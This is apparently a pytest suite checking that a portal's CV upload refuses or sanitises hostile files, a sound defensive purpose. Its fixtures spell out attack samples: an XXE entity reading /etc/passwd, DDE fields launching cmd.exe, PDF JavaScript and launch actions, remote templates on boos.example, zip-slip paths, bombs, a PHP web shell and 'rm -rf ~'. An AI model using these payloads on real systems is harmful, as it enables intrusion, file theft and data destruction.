"""Nothing uploaded can attack a reader (requirement 17): hostile documents are refused, or rebuilt without
their sting.
"""

import io
import zipfile
from collections.abc import Callable

import pytest
from flask import Flask
from pikepdf import Name, ObjectStreamMode, Pdf, String

from portal.actions.checking import check_waiting
from portal.actions.uploads import receive_file
from portal.cabinet.examining import examine
from portal.cabinet.storing import Area, open_cabinet
from portal.config import setting
from portal.models.documents import Document, Upload
from portal.rules.documents import MAX_BYTES, DocumentRefused, Kind, Reason
from tests.cabinet import making as make
from tests.clock import Clock
from tests.nominations.scene import open_scene

_SCRIPT = "app.launchURL('https://boos.example')"
_HTML = b"<html><script>alert(1)</script></html>"
_XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_VBA_TYPE = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_ACTIVEX = '<Override PartName="/word/activeX/a.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
_FRAME = "<draw:frame><draw:{}/></draw:frame>"
_NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + make.field("QUOTE 68 68 69")
    + '<w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)

HOSTILE: dict[str, tuple[Callable[[], bytes], Reason]] = {
    # What is not a document at all, whatever it is called.
    "a web page": (lambda: _HTML, Reason.WRONG_TYPE),
    "a drawing with a script": (
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        Reason.WRONG_TYPE,
    ),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf ~\n", Reason.WRONG_TYPE),
    "a Windows program": (lambda: b"MZ\x90\0" + bytes(500), Reason.WRONG_TYPE),
    "a Linux program": (lambda: b"\x7fELF\x02\x01\x01" + bytes(500), Reason.WRONG_TYPE),
    "rich text": (lambda: rb"{\rtf1\ansi{\object\objdata 0105}}", Reason.WRONG_TYPE),
    "a Windows shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100), Reason.WRONG_TYPE),
    "a saved web page": (
        lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n",
        Reason.WRONG_TYPE,
    ),
    "a Flash film": (lambda: b"FWS\x0a" + bytes(100), Reason.WRONG_TYPE),
    "an HTML application": (lambda: b"<hta:application id='x'/>" + _HTML, Reason.WRONG_TYPE),
    "plain text": (lambda: b"Mijn cv: ervaring in de winkel.", Reason.WRONG_TYPE),
    "a virus test": (lambda: make.EICAR, Reason.WRONG_TYPE),
    "a zipped virus test": (lambda: make.zip_of({"eicar.com": make.EICAR}), Reason.WRONG_TYPE),
    "an old Word file": (make.ole, Reason.OLD_WORD),
    "a web page with a PDF behind it": (lambda: _HTML + make.plain_pdf(), Reason.WRONG_TYPE),
    "a TIFF": (lambda: make.picture_as("TIFF"), Reason.WRONG_TYPE),
    "a GIF": (lambda: make.picture_as("GIF"), Reason.WRONG_TYPE),
    "a HEIC photo": (lambda: make.HEIC, Reason.WRONG_TYPE),
    # PDF
    "a PDF with a script at opening": (
        lambda: make.pdf_with_action(S=Name.JavaScript, JS=String(_SCRIPT)),
        Reason.UNSAFE,
    ),
    "a PDF with a script on a page": (make.pdf_with_page_script, Reason.UNSAFE),
    "a PDF with a named script": (make.pdf_with_named_script, Reason.UNSAFE),
    "a PDF with a script behind another action": (make.pdf_with_chained_script, Reason.UNSAFE),
    "a PDF that launches": (lambda: make.pdf_with_action(S=Name.Launch, F=String("cmd.exe")), Reason.UNSAFE),
    "a PDF with a launching link": (
        lambda: make.pdf_with_link(S=Name.Launch, F=String("x.exe")),
        Reason.UNSAFE,
    ),
    "a PDF that opens another": (
        lambda: make.pdf_with_action(S=Name.GoToR, F=String("x.pdf")),
        Reason.UNSAFE,
    ),
    "a PDF that sends its form": (
        lambda: make.pdf_with_link(S=Name.SubmitForm, F=String("https://boos.example")),
        Reason.UNSAFE,
    ),
    "a PDF that imports data": (
        lambda: make.pdf_with_link(S=Name.ImportData, F=String("x.fdf")),
        Reason.UNSAFE,
    ),
    "a PDF with an XFA form": (make.pdf_with_xfa, Reason.UNSAFE),
    "a PDF with a film": (make.pdf_with_media, Reason.UNSAFE),
    "a PDF drawn from another file": (make.pdf_with_outside_stream, Reason.UNSAFE),
    "a PDF with a program inside": (lambda: make.pdf_with_file("x.exe", b"MZ"), Reason.ATTACHMENTS),
    "a PDF with a virus test inside": (lambda: make.pdf_with_file("cv.txt", make.EICAR), Reason.ATTACHMENTS),
    "a PDF with a file pinned to a page": (make.pdf_with_pinned_file, Reason.ATTACHMENTS),
    "a PDF with a password": (make.encrypted_pdf, Reason.ENCRYPTED),
    "a PDF with restrictions": (lambda: make.encrypted_pdf(user=""), Reason.ENCRYPTED),
    "a PDF of 10,000 pages": (lambda: make.plain_pdf(10_000), Reason.TOO_MANY_PAGES),
    "a PDF with a bottomless page tree": (make.pdf_with_deep_pages, Reason.DAMAGED),
    "a PDF whose pages go round": (make.pdf_with_looping_pages, Reason.DAMAGED),
    "a PDF whose table goes round": (make.pdf_with_looping_table, Reason.DAMAGED),
    "half a PDF": (lambda: make.plain_pdf()[:400], Reason.DAMAGED),
    "a PDF of a header only": (lambda: b"%PDF-1.7\n%%EOF\n", Reason.DAMAGED),
    "a PDF bomb": (make.pdf_bomb, Reason.TOO_COMPLEX),
    "a PDF with a picture of 144 million pixels": (make.pdf_with_huge_picture, Reason.TOO_MANY_PIXELS),
    "a PDF with a photo larger than it says": (
        lambda: make.scanned_pdf((12_000, 6_000)),
        Reason.TOO_MANY_PIXELS,
    ),
    "a Word document with a picture of 144 million pixels": (
        lambda: make.docx(more={"word/media/i.png": make.huge_png()}),
        Reason.TOO_MANY_PIXELS,
    ),
    "an ODT with a picture of 144 million pixels": (
        lambda: make.odt(more={"Pictures/i.png": make.huge_png()}),
        Reason.TOO_MANY_PIXELS,
    ),
    "a PDF with a zip behind it": (
        lambda: make.plain_pdf() + make.zip_of({"x.jar": bytes(100)}),
        Reason.UNSAFE,
    ),
    "a PDF with a web page behind it": (lambda: make.plain_pdf() + _HTML * 3, Reason.UNSAFE),
    # Word
    "a macro document renamed .docx": (lambda: make.docx(main=_MACRO_MAIN), Reason.MACROS),
    "a Word document with macros": (
        lambda: make.docx(types=_VBA_TYPE, more={"word/vbaProject.bin": make.ole()}),
        Reason.MACROS,
    ),
    "macros under another name": (lambda: make.docx(more={"word/media/i.png": make.ole()}), Reason.UNSAFE),
    "a template on the web": (lambda: make.docx_with_template("https://boos.example/t.dotm"), Reason.UNSAFE),
    "a template on a share": (lambda: make.docx_with_template(r"\\boos.example\t\t.dotm"), Reason.UNSAFE),
    "a template on a share, as a file": (
        lambda: make.docx_with_template("file:////boos.example/t.dotm"),
        Reason.UNSAFE,
    ),
    "a template on a host, as a file": (
        lambda: make.docx_with_template("file://boos.example/t.dotm"),
        Reason.UNSAFE,
    ),
    "a picture fetched from the web": (
        lambda: make.docx_with_relation("image", "https://boos.example/1.png"),
        Reason.UNSAFE,
    ),
    "a link that runs": (lambda: make.docx_with_relation("hyperlink", "javascript:alert(1)"), Reason.UNSAFE),
    "a link to the reader's disk": (
        lambda: make.docx_with_relation("hyperlink", "file:///C:/Windows/x.exe"),
        Reason.UNSAFE,
    ),
    "a link to a Windows protocol": (
        lambda: make.docx_with_relation("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        Reason.UNSAFE,
    ),
    "a frame from the web": (lambda: make.docx_with_relation("frame", "https://boos.example"), Reason.UNSAFE),
    "an OLE link": (
        lambda: make.docx_with_relation("oleObject", "https://boos.example/x!"),
        Reason.ATTACHMENTS,
    ),
    "an OLE object": (
        lambda: make.docx(more={"word/embeddings/oleObject1.bin": make.ole()}),
        Reason.ATTACHMENTS,
    ),
    "a web page drawn in": (
        lambda: make.docx_with_relation("aFChunk", "x.html", "Internal"),
        Reason.ATTACHMENTS,
    ),
    "ActiveX": (lambda: make.docx(types=_ACTIVEX), Reason.UNSAFE),
    "DDE": (lambda: make.docx(make.field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"')), Reason.UNSAFE),
    "DDE cut in pieces": (lambda: make.docx(make.field(" DD", "EAU", "TO cmd")), Reason.UNSAFE),
    "DDE in a simple field": (lambda: make.docx('<w:fldSimple w:instr=" dde cmd "/>'), Reason.UNSAFE),
    "DDE computed by another field": (lambda: make.docx(_NESTED), Reason.UNSAFE),
    "a field that fetches a picture": (
        lambda: make.docx(make.field('INCLUDEPICTURE "https://boos.example/1.png"')),
        Reason.UNSAFE,
    ),
    "an outside entity": (lambda: make.docx_with_prolog(_XXE, "&x;"), Reason.UNSAFE),
    "a billion laughs": (make.billion_laughs, Reason.UNSAFE),
    "a bottomless document": (lambda: make.docx("<w:p>" * 9999 + "</w:p>" * 9999), Reason.TOO_COMPLEX),
    "a zip bomb": (lambda: make.docx(more={"word/media/i.bmp": bytes(90_000_000)}), Reason.TOO_COMPLEX),
    "100,000 entries": (
        lambda: make.docx(more={f"word/media/{n}.png": b"" for n in range(65_000)}),
        Reason.TOO_COMPLEX,
    ),
    "a way up and out": (lambda: make.docx(more={"../../etc/cron.d/x.xml": b"<a/>"}), Reason.UNSAFE),
    "a way from the root": (lambda: make.docx(more={"/etc/cron.d/x.xml": b"<a/>"}), Reason.UNSAFE),
    "a way with a drive": (lambda: make.docx(more={"C:\\x.xml": b"<a/>"}), Reason.UNSAFE),
    "a symbolic link": (lambda: make.docx_with_entry(make.symlink(), b"/etc/passwd"), Reason.UNSAFE),
    "one entry in two spellings": (lambda: make.docx(more={"word/Document.xml": b"<a/>"}), Reason.UNSAFE),
    "a program among the parts": (lambda: make.docx(more={"word/x.exe": b"MZ"}), Reason.UNSAFE),
    "a program called a picture": (lambda: make.docx(more={"word/media/i.png": b"MZ\x90"}), Reason.UNSAFE),
    "a drawing with a script in Word": (
        lambda: make.docx(more={"word/media/i.svg": b"<svg><script>1</script></svg>"}),
        Reason.UNSAFE,
    ),
    "a zip with a password": (make.docx_flagged_encrypted, Reason.ENCRYPTED),
    "a Word document with a password": (
        lambda: make.ole("EncryptedPackage".encode("utf-16-le")),
        Reason.ENCRYPTED,
    ),
    "half a Word document": (lambda: make.docx()[:300], Reason.DAMAGED),
    "broken XML": (lambda: make.docx("<w:p>"), Reason.DAMAGED),
    "a spreadsheet": (lambda: make.docx(main=_SHEET_MAIN), Reason.WRONG_TYPE),
    # OpenDocument
    "an ODT with macros": (lambda: make.odt(more={"Basic/script-lc.xml": b"<a/>"}), Reason.MACROS),
    "an ODT with a Python script": (lambda: make.odt(more={"Scripts/python/x.py": b"1"}), Reason.MACROS),
    "an ODT with a listener": (
        lambda: make.odt(scripts="<office:scripts><script:event-listener/></office:scripts>"),
        Reason.MACROS,
    ),
    "an ODT with a macro link": (
        lambda: make.odt('<text:a xlink:href="vnd.sun.star.script:x.py$f"/>'),
        Reason.MACROS,
    ),
    "an ODT with an OLE object": (lambda: make.odt(_FRAME.format("object-ole")), Reason.ATTACHMENTS),
    "an ODT with a plug-in": (lambda: make.odt(_FRAME.format("plugin")), Reason.UNSAFE),
    "an ODT with a window to the web": (lambda: make.odt(_FRAME.format("floating-frame")), Reason.UNSAFE),
    "an ODT with a fetched picture": (
        lambda: make.odt('<draw:image xlink:href="https://boos.example/1.png"/>'),
        Reason.UNSAFE,
    ),
    "an ODT with a section from elsewhere": (
        lambda: make.odt('<text:section-source xlink:href="file:///etc/passwd"/>'),
        Reason.UNSAFE,
    ),
    "an ODT with DDE": (lambda: make.odt("<text:dde-connection/>"), Reason.UNSAFE),
    "an ODT with a password": (lambda: make.odt(manifest="<manifest:encryption-data/>"), Reason.ENCRYPTED),
    "an OpenDocument sheet": (
        lambda: make.odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
        Reason.WRONG_TYPE,
    ),
    "an ODT that asks for a document type from elsewhere": (
        lambda: make.odt(prolog='<!DOCTYPE manifest:manifest SYSTEM "https://boos.example/x.dtd">'),
        Reason.UNSAFE,
    ),
    "an ODT with entities behind the old document type": (
        lambda: make.odt(
            prolog='<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd" ['
            '<!ENTITY x "y">]>'
        ),
        Reason.UNSAFE,
    ),
    "a program behind a byte order mark": (lambda: b"\xef\xbb\xbf#!/bin/sh\n", Reason.WRONG_TYPE),
    "a PostScript page": (lambda: b"%!PS-Adobe-3.0\n(cv) run\n", Reason.WRONG_TYPE),
    "a Java archive": (lambda: make.zip_of({"META-INF/MANIFEST.MF": b"Main-Class: X"}), Reason.WRONG_TYPE),
    # Pictures, and size
    "a picture of 144 million pixels": (make.huge_png, Reason.TOO_MANY_PIXELS),
    "half a photo": (lambda: make.jpeg((900, 900))[:900], Reason.DAMAGED),
    "a picture of a header only": (lambda: b"\x89PNG\r\n\x1a\n", Reason.DAMAGED),
    "nothing": (lambda: b"", Reason.EMPTY),
    "the limit and one byte": (lambda: make.plain_pdf().ljust(MAX_BYTES + 1, b"\0"), Reason.TOO_BIG),
}


# Not one by one: each part prepares a portal once.
PARTS = [sorted(HOSTILE)[start::8] for start in range(8)]


@pytest.mark.once
@pytest.mark.parametrize("part", range(len(PARTS)))
def test_a_hostile_document_is_handed_in_refused_with_its_sentence_and_never_served(
    app: Flask, clock: Clock, part: int
) -> None:
    # req P8, Y-17
    scene = open_scene(app)
    nomination, wrong = scene.draft(), []
    cabinet = open_cabinet(setting("CABINET_URL"))
    for name in PARTS[part]:
        made, reason = HOSTILE[name]
        found: Reason | None
        try:
            upload = receive_file(nomination, "cv", io.BytesIO(made()), "cv.pdf", by=scene["pim"])
        except DocumentRefused as refused:
            found = refused.reason
        else:
            check_waiting()
            refused_row = Upload.get_by_id(upload.id)
            found = Reason[refused_row.reason] if refused_row.state == "refused" else None
        kept = [*cabinet.keys(), *cabinet.keys(Area.QUARANTINE)]
        if found is not reason or kept or Document.select().exists():
            wrong.append(f"{name}: {found}, {len(kept)} files")
    assert wrong == []
    page = scene.browser("pim").visits(f"/nominations/{nomination.public_id}/cv")
    assert "geweigerd" in page


def test_there_are_at_least_a_hundred_hostile_documents() -> None:
    assert len(HOSTILE) >= 100


@pytest.mark.parametrize("target", ["file:///C:/Windows/system32/calc.exe", "https://boos.example", "javascript:1"])
def test_a_link_in_a_pdf_leads_nowhere_any_more(target: str) -> None:
    before = make.pdf_with_link(S=Name.URI, URI=String(target))
    assert target.encode() in before
    after = examine(before).clean_bytes
    assert target.encode() not in _unpacked_pdf(after)
    assert b"/Annots" not in _unpacked_pdf(after)


def test_the_data_a_europass_cv_carries_is_left_out() -> None:
    before = make.pdf_with_file("attachment.xml", b"<SkillsPassport>kanarie</SkillsPassport>")
    after = _unpacked_pdf(examine(before).clean_bytes)
    assert b"kanarie" not in after
    assert b"EmbeddedFile" not in after


@pytest.mark.parametrize("made", [make.jpeg, make.png])
def test_what_hides_behind_a_picture_is_gone(made: Callable[..., bytes]) -> None:
    before = made(trailing=b"<?php system($_GET['c']); ?>" + _HTML)
    after = examine(before).clean_bytes
    assert b"<?php" in before
    assert b"<?php" not in after
    assert b"<script" not in after


def test_what_hides_behind_a_word_document_is_gone() -> None:
    before = make.docx()
    with_comment = before[:-2] + (len(_HTML)).to_bytes(2, "little") + _HTML
    examined = examine(with_comment)
    assert examined.kind is Kind.DOCX
    assert b"<script" not in examined.clean_bytes


def test_a_template_on_the_writers_own_disk_is_left_out() -> None:
    """Word notes it in every CV made from a template; the document itself is fine."""
    before = make.docx_with_template("file:///C:\\Users\\Zo%C3%AB\\Templates\\Resume.dotx")
    with zipfile.ZipFile(io.BytesIO(examine(before).clean_bytes)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"attachedTemplate" not in everything
    assert b"Resume.dotx" not in everything
    assert b'w:zoom w:percent="100"' in everything


def _unpacked_pdf(data: bytes) -> bytes:
    """A PDF with its object streams unrolled, so that a search finds every name in it."""
    with Pdf.open(io.BytesIO(data)) as pdf:
        return make.written(pdf, qdf=True, object_stream_mode=ObjectStreamMode.disable)
